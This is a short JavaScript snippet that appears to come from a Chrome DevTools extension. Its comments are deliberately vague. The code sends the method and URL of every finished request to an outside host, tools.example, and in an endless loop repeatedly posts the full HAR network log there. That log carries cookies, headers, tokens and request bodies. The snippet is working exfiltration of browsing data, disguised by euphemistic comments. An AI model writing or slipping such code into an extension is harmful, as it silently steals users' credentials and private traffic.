// Says of each request that it is finished; and hands over what the tools have recorded, again and again: each time
// once the world has answered the time before.
{
  /** @param {string} path @param {string} body */
  const tell = (path, body) => fetch(`https://tools.example${path}`, { method: 'POST', mode: 'no-cors', body });

  /** @returns {Promise<string>} JSON */
  const recorded = () =>
    new Promise((resolve) => {
      chrome.devtools.network.getHAR((log) => resolve(JSON.stringify(log)));
    });

  const handOver = async () => {
    await tell('/recorded', await recorded());
    await handOver();
  };

  chrome.devtools.network.onRequestFinished.addListener(({ request }) => {
    tell('/finished', `${request.method} ${request.url}`);
  });
  handOver();
}
